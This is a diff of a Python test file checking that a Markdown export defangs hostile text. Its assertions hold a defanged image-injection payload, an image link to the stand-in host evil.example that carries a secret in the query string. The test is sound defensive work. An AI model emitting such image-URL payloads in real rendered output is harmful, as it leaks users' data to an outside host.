@@ -110,11 +110,13 @@ def test_markdown_export_renders_hostile_text_inert_and_keeps_it_readable(
         assert "evil.example" in shown and ("[:]//" in shown or "www[.]" in shown)
 
 
-def test_the_basis_and_discussion_show_the_model_text_defanged(tmp_path: Path) -> None:
+def test_the_basis_and_discussion_show_the_hostile_text_defanged(tmp_path: Path) -> None:
     payload = MARKDOWN_PAYLOADS["an image fetching a URL"]
     html = _render(_exports(tmp_path, payload)["md"])
     shown = _visible(html)
-    assert "Basis: Basis: ![chart](http[:]//evil.example/steal.png?d=SECRET)" in shown
+    # The basis is the value in the matrix's words; the model's own sentence is not in the Markdown.
+    assert "Basis: 3.27 Notes: Model value ![chart](http[:]//evil.example/steal.png?d=SECRET)." in shown
+    assert "Basis: Basis:" not in shown
     assert "Q: Which? ![chart](http[:]//evil.example/steal.png?d=SECRET)" in shown
     assert "# Tower ![chart](http[:]//evil.example" not in shown  # the heading is text, not a heading mark
     assert "Tower ![chart](http[:]//evil.example/steal.png?d=SECRET) — building code data matrix" in shown
